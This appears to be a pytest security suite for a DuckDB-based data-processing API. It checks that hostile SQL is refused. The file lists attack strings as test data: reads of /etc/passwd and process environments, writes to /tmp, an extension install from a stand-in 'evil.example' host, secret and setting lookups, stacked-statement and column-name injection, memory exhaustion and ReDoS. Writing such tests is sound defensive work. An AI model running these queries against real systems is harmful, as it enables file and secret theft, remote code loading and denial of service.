"""SQL and operations that reach for more than their datasets"""

from __future__ import annotations

import httpx
import pytest

from tests.support.attacks import attack
from tests.support.worlds import World

SQL = "containers/data-processor/src/data_processor/operations/sql.py"
CONNECTION = "containers/data-processor/src/data_processor/engine/connection.py"
POOL = "containers/data-processor/src/data_processor/workers/pool.py"
TREE = "The tree of a query may hold only what is on a list; tables are our own views"


def refusal_of(api: httpx.Client, query: str) -> str:
    """The code with which a query is refused."""
    body = {"operation": "sql", "query": query, "data": {"records": [{"a": 1}]}}
    answer = api.post("/data/process", json=body)
    assert answer.status_code in (404, 422), answer.text[:300]
    assert "root:" not in answer.text
    code: str = answer.json()["code"]
    return code


def queries(*texts: str) -> pytest.MarkDecorator:
    return pytest.mark.parametrize("query", texts)


REFUSED = ("sql_not_allowed", "invalid_sql", "unknown_dataset")


@attack(threat="A query reads a file of the machine", control=TREE, file=SQL)
@queries(
    "SELECT * FROM read_csv('/etc/passwd')",
    "SELECT * FROM read_text('/etc/passwd')",
    "SELECT * FROM read_blob('/proc/self/environ')",
    "SELECT * FROM '/etc/passwd'",
    'SELECT * FROM "/etc/passwd"',
    "SELECT * FROM '../../../etc/passwd.csv'",
    "SELECT * FROM read_parquet('*.parquet')",
    "SELECT * FROM glob('/**')",
    "WITH x AS (FROM sniff_csv('/etc/passwd')) SELECT * FROM x",
    "SELECT (SELECT content FROM read_text('/etc/passwd'))",
    "SELECT * FROM parquet_metadata('/var/lib/ai-semble/x.parquet')",
    "SELECT * FROM read_json_auto('/proc/1/environ')",
)
def test_a_query_reads_no_file(api: httpx.Client, query: str) -> None:
    assert refusal_of(api, query) in REFUSED


@attack(threat="A query writes a file", control="One SELECT and nothing else", file=SQL)
@queries(
    "COPY input TO '/tmp/stolen.csv'",
    "EXPORT DATABASE '/tmp/x'",
    "ATTACH '/tmp/x.db'",
    "CREATE TABLE t AS FROM input",
)
def test_a_query_writes_no_file(api: httpx.Client, query: str) -> None:
    assert refusal_of(api, query) in REFUSED


@attack(
    threat="A query opens the network",
    control="No extension is loaded or installed; external access is off",
    file=CONNECTION,
)
@queries(
    "SELECT * FROM 'https://example.com/x.csv'",
    "SELECT * FROM read_csv('s3://bucket/x.csv')",
    "INSTALL httpfs",
    "LOAD httpfs",
    "INSTALL x FROM 'http://evil.example'",
    "ATTACH 'postgres:host=10.0.0.1' AS p",
    "SELECT * FROM postgres_scan('host=10.0.0.1', 'public', 't')",
)
def test_a_query_opens_no_network(api: httpx.Client, query: str) -> None:
    assert refusal_of(api, query) in REFUSED


@attack(threat="A query changes or reads settings and secrets", control=TREE, file=SQL)
@queries(
    "SET enable_external_access = true",
    "PRAGMA database_list",
    "RESET ALL",
    "SELECT current_setting('secret_directory')",
    "SELECT getenv('AI_SEMBLE_TOKEN_FILE')",
    "SELECT * FROM duckdb_settings()",
    "SELECT * FROM duckdb_secrets()",
    "SELECT * FROM duckdb_temporary_files()",
    "SELECT * FROM information_schema.tables",
    "SELECT getvariable('x')",
    "CREATE PERSISTENT SECRET s (TYPE s3)",
)
def test_a_query_reads_and_changes_no_settings(api: httpx.Client, query: str) -> None:
    assert refusal_of(api, query) in REFUSED


@attack(threat="A second statement behind a harmless one", control="There must be one statement", file=SQL)
@queries("SELECT 1; COPY input TO '/tmp/x'", "SELECT 1; SELECT 2", "SELECT 1 --\n; DROP TABLE x")
def test_a_query_is_one_statement(api: httpx.Client, query: str) -> None:
    assert refusal_of(api, query) in REFUSED


@attack(threat="SQL made by SQL", control=TREE, file=SQL)
@queries(
    "SELECT * FROM query('SELECT 1')",
    "SELECT * FROM query_table('input')",
    "SELECT json_execute_serialized_sql('{}')",
)
def test_a_query_makes_no_other_query(api: httpx.Client, query: str) -> None:
    assert refusal_of(api, query) in REFUSED


@attack(
    threat="SQL in the name of a column, a dataset or a value",
    control="Names are quoted, values are bound",
    file="containers/data-processor/src/data_processor/engine/quoting.py",
)
def test_a_name_is_never_sql(api: httpx.Client) -> None:
    name = "\"; COPY (SELECT 1) TO '/tmp/x'; --"
    body = {"operation": "analyze", "data": {"records": [{name: "'; DROP TABLE x; --"}]}}
    answer = api.post("/data/process", json=body)
    assert answer.status_code == 200, answer.text
    assert [column["name"] for column in answer.json()["result"]["profile"]["columns"]] == [name]


@attack(
    threat="A query that takes more memory than there is",
    control="Limits of DuckDB and of the worker's process",
    file="containers/data-processor/src/data_processor/workers/sandbox.py",
)
@queries(
    "SELECT list(range) FROM range(2000000000)",
    "SELECT repeat('x', 4000000000)",
    "SELECT string_agg(repeat('x', 100000), '') FROM range(1000000)",
    "SELECT range(3000000000)",
)
def test_a_query_takes_no_more_memory_than_it_may(api: httpx.Client, query: str) -> None:
    assert refusal_of(api, query) in ("memory_limit_exceeded", "computation_failed", "result_too_large")


@attack(
    threat="A query that never ends",
    control="A worker's process is killed when its client leaves or its time is over",
    file=POOL,
)
def test_a_query_without_end_is_stopped_when_its_client_leaves(api: httpx.Client, world: World) -> None:
    forever = {
        "operation": "sql",
        "query": "SELECT count(*) FROM range(10000000) a, range(10000000) b, range(1000) c",
    }
    for _ in range(4):  # twice as many as are computed at once
        with pytest.raises(httpx.ReadTimeout):
            api.post("/data/process", json=forever, timeout=0.5)
    small = {"operation": "sql", "query": "SELECT 1 AS a"}
    assert api.post("/data/process", json=small).json()["result"]["records"] == [{"a": 1}]


@attack(
    threat="A regular expression that takes for ever (ReDoS)", control="RE2, whose time is linear", file=SQL
)
def test_a_regular_expression_takes_linear_time(api: httpx.Client) -> None:
    query = "SELECT regexp_matches(repeat('a', 100000) || '!', '(a+)+$') AS found"
    answer = api.post("/data/process", json={"operation": "sql", "query": query})
    assert answer.json()["result"]["records"] == [{"found": False}]
